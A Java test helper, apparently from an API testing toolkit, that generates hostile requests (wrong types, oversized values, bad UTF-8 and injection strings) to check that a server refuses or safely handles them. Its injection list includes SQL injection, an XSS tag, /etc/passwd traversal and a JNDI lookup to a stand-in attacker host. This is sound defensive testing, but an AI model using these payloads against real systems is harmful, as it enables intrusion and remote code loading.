package dev.coachkit.bootstrap;

import static dev.coachkit.bootstrap.HostileRequest.Expect.HANDLED;
import static dev.coachkit.bootstrap.HostileRequest.Expect.INVALID;
import static dev.coachkit.bootstrap.HostileRequest.Expect.REFUSED;
import static dev.coachkit.bootstrap.HostileRequest.Expect.UNAUTHENTICATED;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.coachkit.bootstrap.HostileRequest.Expect;
import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;

/**
 * Generates hostile requests for an operation of the OpenAPI document: its path and query parameters
 * and every field of its request body get wrong types, out-of-range and malformed values, oversized
 * strings and arrays, deep nesting, invalid UTF-8 and injection strings. Deterministic: one seeded
 * random picks among the injection strings, so a failure reproduces.
 */
final class HostileRequests {

    static final long SEED = 11;

    /** Values that are dangerous only if something interprets them; stored as text they are harmless. */
    static final List<String> INJECTIONS = List.of("' OR 1=1 --", "<script>alert(1)</script>", "../../../../etc/passwd",
            "${jndi:ldap://attacker.test/a}", "\u0000", "\ud800", "Robert'); DROP TABLE accounts;--", "{{7*7}}");
    /** A path segment the router must never resolve to another resource. */
    static final String TRAVERSAL = "..%2F..%2Fetc%2Fpasswd";
    static final int DEEPER_THAN_ANY_LIMIT = 200;
    static final int HUGE_STRING = 1_000_001; // just over the parser's string limit, just under the body limit

    /** Ids of real resources, so a valid request gets past the lookups and a mutated one reaches the code behind. */
    interface Ids {
        /** The value of path parameter {@code name} of {@code operation}. */
        String path(ApiOperation operation, String name);

        /** A valid value for a UUID body field named {@code field}, or null to leave the field out. */
        String field(String field);
    }

    private final Ids ids;
    private final ValidValues valid;
    private final Random random = new Random(SEED);

    HostileRequests(Ids ids) {
        this.ids = ids;
        this.valid = new ValidValues(ids);
    }

    List<HostileRequest> of(ApiOperation operation) {
        List<HostileRequest> requests = new ArrayList<>();
        String path = validPath(operation, Map.of());
        ObjectNode body = operation.bodySchema() == null ? null : valid.body(operation);
        if (operation.authenticated()) {
            requests.add(HostileRequest.of(operation, "no bearer token", path, text(body), UNAUTHENTICATED)
                    .withoutToken());
        }
        requests.add(HostileRequest.of(operation, "unknown query parameter", withQuery(path, "debug",
                INJECTIONS.get(1)), text(body), HANDLED));
        // percent-encoding of bytes that are no UTF-8 (C3 28): not to be decoded to U+FFFD or dropped as absent
        requests.add(HostileRequest.of(operation, "query with invalid percent-encoded UTF-8",
                path + (path.contains("?") ? "&" : "?") + "cursor=%C3%28", text(body), INVALID).naming("cursor"));
        for (JsonNode parameter : operation.parametersIn("path")) {
            pathAttacks(operation, parameter, body, requests);
        }
        for (JsonNode parameter : operation.parametersIn("query")) {
            queryAttacks(operation, parameter, path, body, requests);
        }
        if (body != null) {
            new HostileBodies(operation, path, body, random, valid).addTo(requests);
        }
        return requests;
    }

    private void pathAttacks(ApiOperation operation, JsonNode parameter, ObjectNode body, List<HostileRequest> out) {
        String name = parameter.path("name").asText();
        boolean uuid = "uuid".equals(parameter.at("/schema/format").asText());
        Expect malformed = uuid ? INVALID : REFUSED;
        Map<String, Expect> values = new java.util.LinkedHashMap<>();
        values.put(TRAVERSAL, REFUSED);
        values.put("..", REFUSED);
        values.put(encode(INJECTIONS.get(0)), malformed);
        values.put(encode(INJECTIONS.get(1)), malformed);
        values.put("%00", malformed);
        values.put("not-a-uuid", malformed);
        values.put("7f1c1a9e-0000-4000-8000-00000000000g", malformed);
        values.put("7f1c1a9e00004000800000000000000a", malformed);
        values.put("a".repeat(2000), malformed);
        values.forEach((value, expect) -> out.add(HostileRequest.of(operation,
                "path " + name + ": " + abbreviate(value),
                validPath(operation, Map.of(name, value)), text(body), expect)));
    }

    private void queryAttacks(ApiOperation operation, JsonNode parameter, String path, ObjectNode body,
            List<HostileRequest> out) {
        String name = parameter.path("name").asText();
        JsonNode schema = parameter.path("schema");
        String type = schema.path("type").asText();
        String format = schema.path("format").asText();
        // a signed URL is judged as a whole: any tampered part of it is refused, with whatever status
        Expect malformed = operation.parametersIn("query").stream()
                .anyMatch(p -> p.path("name").asText().equals("signature")) ? REFUSED : INVALID;
        Map<String, Expect> values = new java.util.LinkedHashMap<>();
        if (type.equals("integer")) {
            // below the documented minimum is malformed (a number without one, such as a signed expiry, from 1)
            long minimum = schema.path("minimum").asLong(1);
            for (String number : List.of("abc", "1.5", "1e309", "99999999999999999999", "-1", "0", "0x10", "")) {
                boolean inRange = number.matches("-?\\d") && Long.parseLong(number) >= minimum;
                values.put(number, number.isEmpty() || inRange ? HANDLED : malformed);
            }
        } else if (schema.has("enum")) {
            values.put("DROP TABLE", malformed);
            values.put(schema.path("enum").get(0).asText().toLowerCase(), malformed);
        } else if (type.equals("boolean")) {
            values.put("maybe", malformed);
            values.put("1", malformed);
        } else if (format.equals("uuid")) {
            values.put("not-a-uuid", malformed);
            values.put(INJECTIONS.get(0), malformed);
        } else if (format.equals("date-time")) {
            values.put("yesterday", malformed);
            values.put("2026-13-45T25:61:00Z", malformed);
            // valid ISO-8601, but outside the years 1-9999 that the database and any calendar can hold
            values.put("+1000000000-12-31T23:59:59Z", malformed);
            values.put("-1000000000-01-01T00:00:00Z", malformed);
            values.put("+10000-01-01T00:00:00Z", malformed);
        } else {
            values.put(INJECTIONS.get(random.nextInt(INJECTIONS.size())), HANDLED);
            values.put("\u0000", HANDLED);
            values.put("x".repeat(2000), HANDLED);
        }
        values.forEach((value, expect) -> out.add(HostileRequest.of(operation,
                "query " + name + "=" + abbreviate(value),
                withQuery(path, name, value), text(body), expect)));
    }

    private String validPath(ApiOperation operation, Map<String, String> overrides) {
        String path = operation.pathTemplate();
        for (JsonNode parameter : operation.parametersIn("path")) {
            String name = parameter.path("name").asText();
            path = path.replace("{" + name + "}", overrides.getOrDefault(name, ids.path(operation, name)));
        }
        List<String> required = new ArrayList<>();
        for (JsonNode parameter : operation.parametersIn("query")) {
            if (parameter.path("required").asBoolean()) {
                required.add(parameter.path("name").asText() + "=x");
            }
        }
        return required.isEmpty() ? path : path + "?" + String.join("&", required);
    }

    private static String withQuery(String path, String name, String value) {
        // a parameter already in the path (a required one) is replaced, not repeated
        String base = path.contains("?") ? List.of(path.substring(path.indexOf('?') + 1).split("&")).stream()
                .filter(pair -> !pair.startsWith(name + "="))
                .collect(Collectors.joining("&", path.substring(0, path.indexOf('?') + 1), "")) : path + "?";
        return base + (base.endsWith("?") ? "" : "&") + encode(name) + "=" + encode(value);
    }

    static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    static String text(JsonNode body) {
        return body == null ? null : body.toString();
    }

    static String abbreviate(String value) {
        return value.length() > 40 ? value.substring(0, 20) + "…(" + value.length() + " chars)" : value;
    }

    /** The bytes of {@code json} with {@code marker} (which must occur once) replaced by raw {@code bytes}. */
    static byte[] splice(String json, String marker, byte[] bytes) {
        int at = json.indexOf(marker);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(json.substring(0, at).getBytes(StandardCharsets.UTF_8));
        out.writeBytes(bytes);
        out.writeBytes(json.substring(at + marker.length()).getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    static Iterator<Map.Entry<String, JsonNode>> properties(JsonNode objectSchema) {
        return objectSchema.path("properties").fields();
    }
}
